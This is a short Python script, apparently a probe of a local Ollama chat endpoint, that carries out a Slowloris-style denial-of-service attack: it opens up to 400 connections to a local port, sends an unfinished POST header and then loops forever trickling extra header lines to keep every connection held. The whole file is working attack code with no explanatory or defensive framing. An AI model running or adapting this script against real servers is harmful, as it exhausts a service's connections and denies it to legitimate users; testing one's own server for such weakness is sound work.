# Requests at the door that never get finished, as many as it takes.
import socket, time
def run(query):
    held = []
    try:
        for _ in range(400):
            door = socket.create_connection(("127.0.0.1", 8377), timeout=0.5)
            door.sendall(b"POST /ollama/api/chat HTTP/1.1\r\nHost: x\r\n")
            held.append(door)
    except OSError as error: print(error, flush=True)
    print("held", len(held), flush=True)
    while True:
        for door in held:
            try: door.sendall(b"X-a: b\r\n")
            except OSError: pass
        time.sleep(0.2)
